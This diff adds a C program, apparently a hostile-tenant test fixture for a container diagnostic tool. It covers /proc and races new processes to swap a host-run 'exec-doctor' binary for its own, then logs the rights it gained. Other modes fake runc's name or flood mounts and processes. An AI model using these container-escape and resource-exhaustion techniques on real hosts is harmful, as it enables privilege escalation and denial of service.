@@ -1,0 +1,136 @@
+/* What a tenant may run as the first process of a container. attacker MODE [COUNT] */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/sendfile.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+static const char evidence[] = "/evidence/owned";
+
+static void must(int failed, const char *what) {
+	if (failed) {
+		perror(what);
+		exit(1);
+	}
+}
+
+static void put(const char *path, const char *text) {
+	int file = open(path, O_WRONLY);
+	if (file < 0 || write(file, text, strlen(text)) < 0) perror(path);
+	close(file);
+}
+
+static void own_namespaces(void) {
+	must(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
+	put("/proc/self/setgroups", "deny");
+	put("/proc/self/uid_map", "0 0 1");
+	put("/proc/self/gid_map", "0 0 1");
+	must(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "private mounts");
+}
+
+static void copy(const char *from, const char *to) {
+	struct stat size;
+	int in = open(from, O_RDONLY), out = open(to, O_CREAT | O_WRONLY | O_TRUNC, 0755);
+	if (in >= 0 && out >= 0 && !fstat(in, &size)) sendfile(out, in, NULL, size.st_size);
+	close(in);
+	close(out);
+}
+
+/* Executed in place of what a diagnosis asked for: tells with which rights. */
+static int payload(void) {
+	char line[256];
+	FILE *status = fopen("/realproc/self/status", "r"), *told = fopen(evidence, "a");
+	while (status && told && fgets(line, sizeof line, status))
+		if (!strncmp(line, "CapEff", 6) || !strncmp(line, "Uid", 3)) fputs(line, told);
+	return 0;
+}
+
+/* The newest process of this PID namespace, be it there or gone. */
+static pid_t last_pid(void) {
+	char text[16] = "";
+	int file = open("/realproc/sys/kernel/ns_last_pid", O_RDONLY);
+	if (read(file, text, sizeof text - 1) < 0) perror("ns_last_pid");
+	close(file);
+	return atoi(text);
+}
+
+/* Its own /proc, where whatever path the last argument of a process names is a program of its own, before that is executed. */
+static void own_proc(void) {
+	char path[64], words[4096];
+	mkdir("/realproc", 0755);
+	own_namespaces();
+	must(mount("/proc", "/realproc", NULL, MS_BIND | MS_REC, NULL), "bind /proc");
+	must(mount("tmpfs", "/proc", "tmpfs", 0, "mode=755"), "cover /proc");
+	printf("ready\n");
+	fflush(stdout);
+	for (pid_t last = last_pid();;) {
+		pid_t pid = 0, known = last;
+		for (int n = 0; n < 1000 && !pid; n++)
+			if (!kill(known + 1, SIGSTOP)) pid = known + 1;
+		last = last_pid();
+		// one that came and went, or whose number is another's
+		if (!pid && last != known && !kill(last, SIGSTOP)) pid = last;
+		if (!pid) continue;
+		snprintf(path, sizeof path, "/realproc/%d/cmdline", pid);
+		int file = open(path, O_RDONLY);
+		ssize_t size = file < 0 ? -1 : read(file, words, sizeof words);
+		close(file);
+		const char *word = words + (size > 1 ? size - 1 : 0);
+		while (word > words && word[-1]) word--;
+		if (size > 1 && !strncmp(word, "/proc/exec-doctor", 17)) copy("/attacker", word);
+		kill(pid, SIGCONT);
+	}
+}
+
+/* In uninterruptible sleep, with the name of a step of runc's. */
+static void stuck_as_runc(void) {
+	printf("ready\n");
+	fflush(stdout);
+	prctl(PR_SET_NAME, "runc:[2:INIT]");
+	if (!vfork())
+		for (;;) pause();
+}
+
+static void many_mounts(int count) {
+	mkdir("/m", 0755);
+	own_namespaces();
+	for (int n = 0; n < count; n++) must(mount("/m", "/m", NULL, MS_BIND, NULL), "mount");
+}
+
+static int __attribute__((noreturn)) sleeps(void *unused) {
+	(void)unused;
+	for (;;) pause();
+}
+
+static void many_processes(int count, const char *called) {
+	const size_t stack = 4096;
+	char *stacks = mmap(NULL, stack * count, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	must(stacks == MAP_FAILED, "mmap");
+	prctl(PR_SET_NAME, called);
+	for (int n = 0; n < count; n++)
+		if (clone(sleeps, stacks + stack * (n + 1), CLONE_VM | SIGCHLD, NULL) < 0) {
+			perror("clone");
+			break;
+		}
+}
+
+int main(int count, char **words) {
+	const char *mode = count > 1 ? words[1] : "", *number = count > 2 ? words[2] : "0", *called = count > 3 ? words[3] : "";
+	if (strstr(words[0], "exec-doctor")) return payload();
+	if (!strcmp(mode, "own-proc")) own_proc();
+	if (!strcmp(mode, "stuck-as-runc")) stuck_as_runc();
+	if (!strcmp(mode, "mounts")) many_mounts(atoi(number));
+	if (!strcmp(mode, "processes")) many_processes(atoi(number), called);
+	printf("ready\n");
+	fflush(stdout);
+	for (;;) pause();
+}
